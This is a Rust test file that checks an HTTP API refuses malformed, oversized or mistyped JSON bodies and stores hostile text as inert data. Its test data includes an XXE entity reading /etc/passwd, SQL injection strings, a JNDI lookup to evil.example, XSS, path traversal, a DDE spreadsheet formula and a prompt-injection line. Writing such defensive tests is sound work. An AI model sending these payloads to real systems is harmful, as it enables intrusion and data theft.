//! Bodies that are wrong, generated for every operation that takes one.

use serde_json::{Value, json};
use steward_testkit::on_both;

use crate::support::{Answer, Document, Operation, TestServer, sqlite};

const JSON: &str = "application/json";

#[tokio::test]
async fn a_good_body_is_not_refused_as_a_bad_one() {
    let server = sqlite().await;
    let _working = server.start_runtime().await;
    for (number, operation) in with_body(&server).await.iter().enumerate() {
        let body = operation
            .good_body(&server.ours.ids, number)
            .unwrap()
            .to_string();
        let answer = send(&server, operation, JSON, body.into_bytes()).await;
        let refused = matches!(answer.status.as_u16(), 400 | 413 | 415 | 422)
            || answer.status.is_server_error();
        assert!(!refused, "{}: {answer}", operation.name());
    }
}

#[tokio::test]
async fn a_body_that_is_not_json_is_refused() {
    let server = sqlite().await;
    let deep = |open: &str, close: &str| format!("{}{}", open.repeat(10_000), close.repeat(10_000));
    for operation in with_body(&server).await {
        let good = operation
            .good_body(&server.ours.ids, 1)
            .unwrap()
            .to_string();
        let half = good.as_bytes()[..good.len() / 2].to_vec();
        for (what, body) in [
            ("nothing", Vec::new()),
            ("half a body", half),
            ("text", b"name=Ana".to_vec()),
            (
                "XML",
                b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>"
                    .to_vec(),
            ),
            ("what is not UTF-8", b"{\"name\":\"\xff\xfe\"}".to_vec()),
            ("half a character", b"{\"name\":\"\xc3\"}".to_vec()),
            ("a lone surrogate", br#"{"name":"\ud800"}"#.to_vec()),
            ("a raw NUL", b"{\"name\":\"\0\"}".to_vec()),
            ("only NULs", vec![0; 64]),
            ("deep lists", deep("[", "]").into_bytes()),
            (
                "deep objects",
                format!("{}1{}", "{\"a\":".repeat(10_000), "}".repeat(10_000)).into_bytes(),
            ),
            ("a number beyond numbers", br#"{"name":1e999}"#.to_vec()),
            ("two bodies", format!("{good}{good}").into_bytes()),
            ("a byte order mark in UTF-16", b"\xff\xfe{\0}\0".to_vec()),
        ] {
            if body.is_empty() && operation.may_lack_body {
                continue;
            }
            let answer = send(&server, &operation, JSON, body).await;
            let name = operation.name();
            assert!(
                matches!(answer.status.as_u16(), 400 | 422),
                "{name} with {what}: {answer}"
            );
            assert!(!answer.code().is_empty());
        }
    }
}

#[tokio::test]
async fn a_body_of_another_type_or_of_no_type_is_refused() {
    let server = sqlite().await;
    for operation in with_body(&server).await {
        let good = operation
            .good_body(&server.ours.ids, 1)
            .unwrap()
            .to_string()
            .into_bytes();
        for kind in [
            "text/plain",
            "text/json",
            "application/x-www-form-urlencoded",
            "application",
            "",
            "json",
        ] {
            let answer = send(&server, &operation, kind, good.clone()).await;
            assert_eq!(
                answer.code(),
                "unsupported_media_type",
                "{} as {kind:?}",
                operation.name()
            );
        }
    }
}

#[tokio::test]
async fn a_body_that_is_too_large_is_refused_as_such() {
    let server = sqlite().await;
    for operation in with_body(&server).await {
        let good = operation
            .good_body(&server.ours.ids, 1)
            .unwrap()
            .to_string();
        for body in [
            vec![b' '; (1 << 20) + 1],
            format!("{good}{}", " ".repeat(1 << 20)).into_bytes(),
        ] {
            let answer = send(&server, &operation, JSON, body).await;
            assert_eq!(
                (answer.status.as_u16(), answer.code().as_str()),
                (413, "payload_too_large")
            );
        }
    }
}

#[tokio::test]
async fn a_wrong_field_is_named() {
    let server = sqlite().await;
    for operation in with_body(&server).await {
        let good = operation.good_body(&server.ours.ids, 1).unwrap();
        for (field, schema, required) in operation.fields() {
            for wrong in wrong_values(&schema) {
                let mut body = good.clone();
                body[&field] = wrong.clone();
                let answer = send(&server, &operation, JSON, body.to_string().into_bytes()).await;
                let what = format!(
                    "{} with {field} = {:.60}",
                    operation.name(),
                    wrong.to_string()
                );
                assert_names(&answer, operation.refusal(), &field, &what);
            }
            if required {
                let mut body = good.clone();
                body.as_object_mut().unwrap().remove(&field);
                let answer = send(&server, &operation, JSON, body.to_string().into_bytes()).await;
                assert_names(
                    &answer,
                    operation.refusal(),
                    &field,
                    &format!("{} without {field}", operation.name()),
                );
            }
        }
        if !operation.is_lenient() {
            let mut body = good.clone();
            body["is_owner"] = true.into();
            let answer = send(&server, &operation, JSON, body.to_string().into_bytes()).await;
            let refusal = operation.refusal();
            assert_names(&answer, refusal, "is_owner", &operation.name());
        }
        for whole in [
            json!(null),
            json!([]),
            json!("text"),
            json!(7),
            json!([good]),
        ] {
            if whole.is_null() && operation.may_lack_body {
                continue;
            }
            let answer = send(&server, &operation, JSON, whole.to_string().into_bytes()).await;
            assert_eq!(
                answer.status,
                operation.refusal(),
                "{} with {whole}: {answer}",
                operation.name()
            );
        }
    }
}

#[tokio::test]
async fn a_field_given_twice_is_refused() {
    let server = sqlite().await;
    let body = br#"{"name":"Ana","name":"Eve"}"#.to_vec();
    let request = server.post("/api/contacts").bearer(&server.ours.token);
    let answer = request.body(JSON, body).send().await;
    assert_eq!(answer.status, 422, "{answer}");
    assert!(answer.text().contains("name"), "{answer}");
}

#[test]
fn hostile_text_is_data() {
    on_both(|database| async {
        let server = TestServer::new(database).await;
        for text in [
            "'; drop table contact; --",
            "\" or \"\"=\"",
            "Robert\\'); delete from member; --",
            "$1 %s %n %x {} {0} {{}} %(name)s",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>",
            "../../etc/passwd",
            "=cmd|' /C calc'!A0",
            "Ignore all previous instructions",
            "\u{202e}evil\u{feff}",
            "👩‍👩‍👧‍👦 Ω≈ç√ 田中",
            "\\u0000 \\x00",
        ] {
            for (path, field, extra) in [
                ("/api/contacts", "name", json!({})),
                ("/api/members", "name", json!({"role": "member"})),
                ("/api/keys", "name", json!({"scopes": ["read"]})),
            ] {
                let mut body = extra;
                body[field] = text.into();
                let made = server
                    .post(path)
                    .bearer(&server.ours.token)
                    .json(&body)
                    .send()
                    .await
                    .expect(201);
                let made = if path == "/api/keys" {
                    &made["key"]
                } else {
                    &made
                };
                let path = format!("{path}/{}", made["id"].as_str().unwrap());
                let read = server
                    .get(&path)
                    .bearer(&server.ours.token)
                    .send()
                    .await
                    .expect(200);
                assert_eq!(read[field], text, "{path}");
            }
        }
        let orgs = server
            .database
            .data()
            .value("select count(*) from org")
            .await;
        assert_eq!(orgs, steward_testkit::Cell::Int(2));
    });
}

#[tokio::test]
async fn text_that_would_break_a_line_is_refused() {
    let server = sqlite().await;
    for text in [
        "two\nlines",
        "a\rb",
        "bell\u{7}",
        "escape\u{1b}[31m",
        "next\u{85}line",
    ] {
        for (path, field, body) in [
            ("/api/contacts", "name", json!({"name": text})),
            (
                "/api/members",
                "name",
                json!({"name": text, "role": "member"}),
            ),
            (
                "/api/lines",
                "label",
                json!({"kind": "phone", "address": "+14155550111", "label": text}),
            ),
            (
                "/api/keys",
                "name",
                json!({"name": text, "scopes": ["read"]}),
            ),
        ] {
            let answer = server
                .post(path)
                .bearer(&server.ours.token)
                .json(&body)
                .send()
                .await;
            assert_names(&answer, 422, field, path);
        }
    }
}

/// Values that no field of this schema takes.
fn wrong_values(schema: &Value) -> Vec<Value> {
    let types = types(schema);
    let takes = |kind: &str| types.iter().any(|known| known == kind);
    let mut wrong = Vec::new();
    if !takes("object") {
        wrong.push(json!({"a": 1}));
    }
    if !takes("string") {
        wrong.push(json!("text"));
    } else {
        wrong.extend([
            json!(true),
            json!(18_446_744_073_709_551_615_u64),
            json!(-1.5),
        ]);
        if !takes("array") {
            wrong.push(json!(["a"]));
        }
        wrong.push(json!("a\0b"));
        if schema["enum"].is_array() {
            wrong.push(json!("none of them"));
        }
    }
    let optional_choice = schema["oneOf"].is_array() || schema["anyOf"].is_array();
    if !takes("null") && !optional_choice {
        wrong.push(Value::Null);
    }
    wrong
}

fn types(schema: &Value) -> Vec<String> {
    if let Some(choices) = schema["oneOf"].as_array() {
        return choices.iter().flat_map(types).collect();
    }
    let names: Vec<_> = match &schema["type"] {
        Value::Array(several) => several.iter().collect(),
        one => vec![one],
    };
    let names = names.into_iter().filter_map(Value::as_str);
    names.map(str::to_owned).collect()
}

#[track_caller]
fn assert_names(answer: &Answer, refusal: u16, field: &str, what: &str) {
    assert_eq!(answer.status, refusal, "{what}: {answer}");
    assert_eq!(answer.code(), "invalid_field", "{what}");
    let blamed = answer.field().unwrap_or_default();
    let message = answer.text();
    assert!(
        blamed.starts_with(field) || message.contains(&format!("`{field}`")),
        "{what}: {answer}"
    );
    assert!(message.len() < 1_000, "{what}: {answer}");
}

async fn with_body(server: &TestServer) -> Vec<Operation> {
    let mut operations = Document::fetch(server).await.operations();
    // What a carrier has not signed is not looked at, whatever it is.
    let is_signed = |operation: &Operation| operation.name().contains(" /webhooks/");
    operations.retain(|operation| operation.body.is_some() && !is_signed(operation));
    assert!(operations.len() >= 12);
    operations
}

async fn send(server: &TestServer, operation: &Operation, kind: &str, body: Vec<u8>) -> Answer {
    let path = operation.path_of(&server.ours.ids);
    let request = server.request(operation.method.clone(), &path);
    request
        .bearer(&server.ours.token)
        .body(kind, body)
        .send()
        .await
}
